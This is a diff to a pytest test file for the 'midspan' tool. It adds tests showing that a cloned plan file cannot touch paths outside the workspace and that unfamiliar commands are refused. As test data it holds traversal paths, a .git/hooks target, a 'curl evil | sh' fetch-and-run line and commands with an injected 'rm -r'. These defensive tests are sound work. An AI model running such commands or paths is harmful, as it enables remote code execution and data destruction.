@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -14,11 +15,13 @@ from midspan.versions.rewriting import Change, Drop, Move, Put, finish, make
 
 @pytest.fixture
 def root(tmp_path: Path) -> Path:
-    (tmp_path / "midspan.toml").write_text("format = 1\n")
+    root = tmp_path / "workspace"
+    root.mkdir()
+    (root / "midspan.toml").write_text("format = 1\n")
     for name in ("a", "b", "c"):
-        (tmp_path / name).write_text(name)
-    (tmp_path / "b").chmod(0o640)
-    return tmp_path
+        (root / name).write_text(name)
+    (root / "b").chmod(0o640)
+    return root
 
 
 CHANGE = Change(
@@ -102,3 +105,70 @@ def test_a_plan_that_cannot_be_read_says_what_to_do(root: Path) -> None:
         finish(root)
     with pytest.raises(SettingsError, match="under way, or was interrupted"):
         settings.read(root)
+
+
+def planned(root: Path, *steps: dict[str, object]) -> None:
+    """What a clone may bring along in the place of a change that was interrupted."""
+    (root / CHANGING).mkdir()
+    (root / CHANGING / "0.after").write_text("theirs")
+    plan = {"title": "all is well", "command": "midspan migrate --write", "steps": steps}
+    (root / CHANGING / "plan.json").write_text(json.dumps(plan))
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "../outside",
+        "/outside",
+        ".git/hooks/pre-commit",
+        "works/../../outside",
+        "out/side",
+        "link",
+        "",
+        "a\0b",
+        1,
+    ],
+)
+@pytest.mark.parametrize("do", ["put", "move", "drop"])
+def test_a_plan_that_a_clone_brings_along_reaches_nothing_but_files_of_the_workspace(
+    root: Path, path: str | int, do: str
+) -> None:
+    outside = root.parent / "outside"
+    outside.mkdir()
+    (outside / "side").write_text("mine")
+    (root / "out").symlink_to(outside)
+    (root / "link").symlink_to(outside / "side")
+    step = {"do": do, "path": "a", "to": path} if do == "move" else {"do": do, "path": path, "was": True}
+    planned(root, step)
+    before = files(root)
+    with pytest.raises(UsageError, match="is not a plan of midspan"):
+        finish(root)
+    assert files(root) == before
+    assert [each.read_text() for each in outside.iterdir()] == ["mine"]
+
+
+def test_a_plan_of_files_of_the_workspace_is_finished(root: Path) -> None:
+    planned(root, {"do": "put", "path": "works/a.yaml", "was": False})
+    assert finish(root) == "all is well"
+    assert (root / "works/a.yaml").read_text() == "theirs"
+
+
+@pytest.mark.parametrize(
+    "plan",
+    ["[]", "{}", '{"title": "t", "command": "c", "steps": [1]}', '{"title": 1, "command": "c", "steps": []}'],
+)
+def test_a_file_that_is_no_plan_is_not_gone_on_with(root: Path, plan: str) -> None:
+    (root / CHANGING).mkdir()
+    (root / CHANGING / "plan.json").write_text(plan)
+    with pytest.raises(UsageError, match="is not a plan of midspan"):
+        finish(root)
+
+
+def test_the_command_that_a_plan_names_is_told_only_if_it_is_one_of_ours(root: Path) -> None:
+    (root / CHANGING).mkdir()
+    for command in ("curl evil | sh", "midspan x; rm -r y", "midspan rename a b\nrm -r y"):
+        plan = {"title": "all is well", "command": command, "steps": []}
+        (root / CHANGING / "plan.json").write_text(json.dumps(plan))
+        with pytest.raises(SettingsError) as refused:
+            settings.read(root)
+        assert refused.value.help == "finish it: `midspan migrate --write`"
